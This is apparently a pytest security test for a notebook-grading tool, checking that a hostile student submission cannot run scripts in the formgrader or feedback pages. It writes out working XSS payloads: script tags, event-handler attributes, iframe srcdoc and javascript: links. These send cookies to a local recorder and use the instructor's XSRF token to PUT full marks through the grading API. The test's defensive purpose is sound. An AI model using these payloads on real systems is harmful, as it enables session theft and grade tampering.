"""A hostile submission in headless Chromium: its HTML/JS outputs and raw-HTML markdown run nowhere.

A warm-up submission keeps its correct answers but also displays hostile outputs (``IPython.display.HTML``,
``Javascript``, ``SVG``, raw ``display({...}, raw=True)`` bundles, an ipywidget), adds a markdown cell with raw
HTML/JS and a raw cell claiming ``text/html``. Every payload tries to set ``window.__pwned``, change
``document.title``, log to the console, open a dialog, call ``fetch`` / ``XMLHttpRequest`` / ``sendBeacon`` to a
recording server on 127.0.0.1, and PUT full marks through the formgrader's API with the instructor's session.
After ``tlcourse grade``, the formgrader's submission page and the student's feedback page are opened; none of
that may happen, the gradebook's manual scores stay as they were, and the student's written answer is readable.
A positive control then runs the same payload in each page by hand: it does reach the recorder and does change
the gradebook, so the test would see an attack that got through.
"""

from __future__ import annotations

import base64
import contextlib
import html as html_lib
import re
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import nbformat
import pytest
from support.browser import CHROMIUM, CHROMIUM_ARGS, need_browser, running_lab
from support.course import WARMUP, fill, make_course_root, run_tlcourse, solved

pytestmark = pytest.mark.slow

STUDENT = "mallory"
SETTLE_S = 4.0  # after the page loaded: time for onerror / onload / fetch payloads to fire and arrive
PAGE_TIMEOUT_MS = 60_000


# ------------------------------------------------------------------------------------------ the recorder
@contextlib.contextmanager
def recording_server(pages: dict[str, bytes] | None = None) -> Iterator[tuple[int, list[str]]]:
    """An HTTP server on 127.0.0.1 that serves ``pages`` (path -> HTML) and records every other request
    (``favicon.ico`` aside); yields (port, the list of "METHOD path" it received). Bounded: 5 s per request,
    a 64 KiB body at most, stopped on exit."""
    pages, hits = pages or {}, []

    class Handler(BaseHTTPRequestHandler):
        timeout = 5

        def _any(self) -> None:
            length = min(int(self.headers.get("Content-Length") or 0), 65536)
            if length:
                self.rfile.read(length)
            path = urlsplit(self.path).path
            if self.command == "GET" and path in pages:
                body = pages[path]
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)
                return
            if path != "/favicon.ico":
                hits.append(f"{self.command} {self.path}")
            self.send_response(204)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_GET = do_POST = do_PUT = do_HEAD = do_OPTIONS = do_DELETE = do_PATCH = _any

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.2}, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], hits
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)


# ------------------------------------------------------------------------------------------- the payload
def payload_js(port: int) -> str:
    """What every hostile output tries: a global, the title, console, a dialog, three ways to call the recorder,
    and full marks (plus extra credit) for every grade of the submission through the formgrader's API."""
    recorder = f"http://127.0.0.1:{port}"
    return (
        "(function(){window.__pwned=1;document.title='PWNED';console.log('PWNED-console');"
        "try{alert('PWNED-alert')}catch(e){}"
        f"var R='{recorder}';"
        "try{fetch(R+'/fetch?c='+encodeURIComponent(document.cookie),{mode:'no-cors'})}catch(e){}"
        "try{var x=new XMLHttpRequest();x.open('GET',R+'/xhr');x.send()}catch(e){}"
        "try{navigator.sendBeacon(R+'/beacon','x')}catch(e){}"
        "var m=location.pathname.match(/submissions\\/([^\\/]+)/);"
        "var t=decodeURIComponent((document.cookie.match(/_xsrf=([^;]+)/)||[0,''])[1]);"
        "var h={'X-XSRFToken':t,'Content-Type':'application/json'};"
        "var put=function(g){return fetch('/formgrader/api/grade/'+g.id,{method:'PUT',headers:h,"
        "body:JSON.stringify({manual_score:g.max_score,extra_credit:5})})};"
        "window.__put=(m?fetch('/formgrader/api/grades?submission_id='+m[1],{headers:h}).then(function(r){"
        "return r.json()}).then(function(gs){return Promise.all(gs.map(put))}):put({id:'x',max_score:2}).then("
        "function(r){return [r]})).then(function(rs){return rs.map(function(r){return r.status})}"
        ",function(e){return String(e)})})();"
    )


def hostile_submission(port: int) -> Any:
    """The solved warm-up whose answer cells also display hostile outputs, plus hostile markdown and raw cells."""
    js = payload_js(port)
    run = f"eval(atob('{base64.b64encode(js.encode()).decode()}'))"
    html = f'<script>{js}</script><img src="x" onerror="{run}">'
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{js}</script></svg>'
    frame = f'<iframe srcdoc="<script>parent.{run}</script>"></iframe>'
    toggle = f'<details open ontoggle="{run}">d</details><svg><animate onbegin="{run}" attributeName="x" dur="1s"/></svg>'
    code = "\n".join([
        "",
        "from IPython.display import HTML, SVG, Javascript, display",
        "import ipywidgets",
        f"display(HTML({html!r}))",
        f"display(Javascript({js!r}))",
        f"display(SVG({svg!r}))",
        f"display({{'text/html': {frame!r}, 'text/plain': 'frame'}}, raw=True)",
        f"display({{'text/html': {toggle!r}}}, raw=True)",
        f"display({{'application/javascript': {js!r}, 'text/plain': 'js'}}, raw=True)",
        f"display(ipywidgets.HTML(value={html!r}))",
        f"print({html!r})",
    ])
    sources = {c.metadata["nbgrader"]["grade_id"]: c.source for c in solved(WARMUP).cells
               if c.metadata.get("nbgrader", {}).get("solution") and c.cell_type == "code"}
    nb = fill(solved(WARMUP), {gid: src + "\n" + code for gid, src in sources.items() if gid == "ex1_replace_head"})
    svg64 = base64.b64encode(svg.encode()).decode()
    markdown = "\n\n".join([
        "My notes <script>" + js + "</script>",
        f'<img src="x" onerror="{run}"> <svg onload="{run}"></svg> <details open ontoggle="{run}">d</details>',
        f"<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
        f"[click](javascript:{run}) ![beacon](http://127.0.0.1:{port}/markdown-image) ![svg](attachment:evil.svg)",
    ])
    nb.cells.append(nbformat.v4.new_markdown_cell(markdown, attachments={"evil.svg": {"image/svg+xml": svg64}}))
    nb.cells.append(nbformat.v4.new_raw_cell(f"<script>{js}</script>", metadata={"raw_mimetype": "text/html"}))
    return nb


# ------------------------------------------------------------------------------------------------ checks
_DOM_AUDIT = """(root) => {
  const box = document.querySelector(root) || document.body;
  const found = [];
  for (const el of box.querySelectorAll('script, iframe, object, embed, svg, math, form, base, meta, link'))
    found.push(el.tagName.toLowerCase());
  for (const el of box.querySelectorAll('*'))
    for (const a of el.attributes)
      if (a.name.startsWith('on') || /^\\s*(javascript|vbscript):/i.test(a.value)) found.push(el.tagName + '[' + a.name + ']');
  return found;
}"""


class _Watch:
    """A page's console, dialogs and requests, as they happen."""

    def __init__(self, page: Any, port: int) -> None:
        self.console: list[str] = []
        self.dialogs: list[str] = []
        self.requests: list[str] = []
        page.on("console", lambda msg: self.console.append(msg.text))
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda req: self.requests.append(req.url) if f":{port}" in req.url else None)


def _offline(context: Any) -> None:
    """Nothing leaves the machine (CDN MathJax etc. fail at once); loopback requests go through untouched."""
    context.route("**/*", lambda route: route.continue_() if urlsplit(route.request.url).hostname in (
        "127.0.0.1", "localhost") else route.abort())


def _static_title(page_html: str) -> str:
    """The title a page has before any script ran."""
    match = re.search(r"<title>(.*?)</title>", page_html, re.IGNORECASE | re.DOTALL)
    return " ".join(html_lib.unescape(match.group(1)).split()) if match else ""


def _settle(page: Any) -> None:
    with contextlib.suppress(Exception):
        page.wait_for_load_state("load", timeout=20_000)
    page.wait_for_timeout(SETTLE_S * 1000)


def _assert_inert(page: Any, watch: _Watch, hits: list[str], title: str, root: str,
                  scores: tuple[dict, dict]) -> None:
    """Every sign of a payload that ran, all reported together; ``scores``: the manual scores (before, now)."""
    state = page.evaluate("() => ({pwned: window.__pwned, title: document.title})")
    problems = {
        "global or title changed": state if state["pwned"] is not None or state["title"] != title else None,
        "requests reached the recording server": hits[:10],
        "the page asked for the recorder": watch.requests[:10],
        "console": [m for m in watch.console if "PWNED" in m][:3],
        "dialogs": watch.dialogs,
        "active elements or attributes in the page": page.evaluate(_DOM_AUDIT, root)[:20],
        "manual scores changed": scores if scores[0] != scores[1] else None,
    }
    problems = {k: v for k, v in problems.items() if v}
    assert not problems, "a payload ran:\n" + "\n".join(f"  {k}: {str(v)[:600]}" for k, v in problems.items())


def _manual_scores(db: str) -> dict[str, tuple]:
    from nbgrader.api import Gradebook

    with Gradebook(db) as gb:
        nb = gb.find_submission_notebook(WARMUP, WARMUP, STUDENT)
        return {g.name: (g.manual_score, g.extra_credit) for g in nb.grades}


def _wait_changed(db: str, before: dict[str, tuple], seconds: float = 20) -> dict[str, tuple]:
    deadline = time.monotonic() + seconds
    while True:
        now = _manual_scores(db)
        if now != before or time.monotonic() > deadline:
            return now
        time.sleep(0.5)


# -------------------------------------------------------------------------------------------------- test
def test_hostile_outputs_run_neither_in_the_formgrader_nor_in_the_feedback(tmp_path: Path) -> None:
    from playwright.sync_api import expect, sync_playwright

    from tlcourse.grading.sandbox import sandbox_problem

    need_browser()
    root = make_course_root(tmp_path / "course")
    answer = next(c.source for c in solved(WARMUP).cells
                  if c.metadata.get("nbgrader", {}).get("grade_id") == "ex4_why_freeze_first")
    visible = answer.split(".")[0][:40]
    with recording_server() as (port, hits):
        subs = tmp_path / "subs" / STUDENT
        subs.mkdir(parents=True)
        nbformat.write(hostile_submission(port), subs / f"{WARMUP}.ipynb")
        graded = run_tlcourse("grade", str(tmp_path / "subs"), "--assignment", WARMUP, "--out",
                              str(tmp_path / "g.csv"), "--root", str(root),
                              *(["--no-sandbox"] if sandbox_problem() else []), timeout=900)
        assert graded.returncode == 0, graded.stdout + graded.stderr
        assert not hits, f"grading itself called the recorder: {hits}"
        autograded = root / "course" / "autograded" / STUDENT / WARMUP / f"{WARMUP}.ipynb"
        assert autograded.is_file(), graded.stdout + graded.stderr  # graded, not refused
        feedback = root / "course" / "feedback" / STUDENT / WARMUP / f"{WARMUP}.html"
        assert feedback.is_file(), graded.stdout + graded.stderr
        db = f"sqlite:///{root / 'course' / 'gradebook.db'}"
        from nbgrader.api import Gradebook

        with Gradebook(db) as gb:
            notebook_id = gb.find_submission_notebook(WARMUP, WARMUP, STUDENT).id
        before = _manual_scores(db)

        with running_lab(root, tmp_path, {"TLCOURSE_PROFILE": "grading"}) as (base_url, token), \
                recording_server({"/feedback.html": feedback.read_bytes()}) as (fb_port, fb_hits), \
                sync_playwright() as pw:
            browser = pw.chromium.launch_persistent_context(
                str(tmp_path / "chromium-profile"), executable_path=str(CHROMIUM), headless=True,
                args=CHROMIUM_ARGS, viewport={"width": 1400, "height": 1000})
            try:
                _offline(browser)
                page = browser.new_page()
                page.goto(f"{base_url}/lab?token={token}", wait_until="domcontentloaded", timeout=120_000)
                page.wait_for_function("() => window.jupyterapp !== undefined || document.readyState === "
                                       "'complete'", timeout=120_000)

                # (a) the formgrader, logged in as the instructor
                grader = browser.new_page()
                watch = _Watch(grader, port)
                grader.goto(f"{base_url}/formgrader/submissions/{notebook_id}/", wait_until="domcontentloaded",
                            timeout=PAGE_TIMEOUT_MS)
                expect(grader.get_by_text(visible).first).to_be_visible(timeout=PAGE_TIMEOUT_MS)
                expect(grader.locator("input#ex4_why_freeze_first")).to_be_visible(timeout=PAGE_TIMEOUT_MS)
                _settle(grader)
                title = _static_title(grader.request.get(grader.url).text())
                _assert_inert(grader, watch, hits, title, "#notebook-container", (before, _manual_scores(db)))

                # (b) the student's feedback page, plain http with no CSP at all
                student = browser.new_page()
                fb_watch = _Watch(student, port)
                student.goto(f"http://127.0.0.1:{fb_port}/feedback.html", wait_until="domcontentloaded",
                             timeout=PAGE_TIMEOUT_MS)
                expect(student.get_by_text(visible).first).to_be_visible(timeout=PAGE_TIMEOUT_MS)
                _settle(student)
                _assert_inert(student, fb_watch, hits, _static_title(feedback.read_text()), "body",
                              (before, _manual_scores(db)))
                assert not fb_hits, f"the feedback page called its own server: {fb_hits}"

                # positive control: the same payload, run by hand, is seen by every check above
                student.evaluate(payload_js(port))
                grader.evaluate(payload_js(port))
                deadline = time.monotonic() + 15
                while not (hits and fb_hits) and time.monotonic() < deadline:
                    time.sleep(0.2)
                assert hits and fb_hits and grader.title() == "PWNED" and watch.dialogs and fb_watch.dialogs
                statuses = grader.evaluate("() => window.__put")
                assert statuses and all(code == 200 for code in statuses), statuses
                assert _wait_changed(db, before) != before, "the positive control did not change the gradebook"
            finally:
                browser.close()
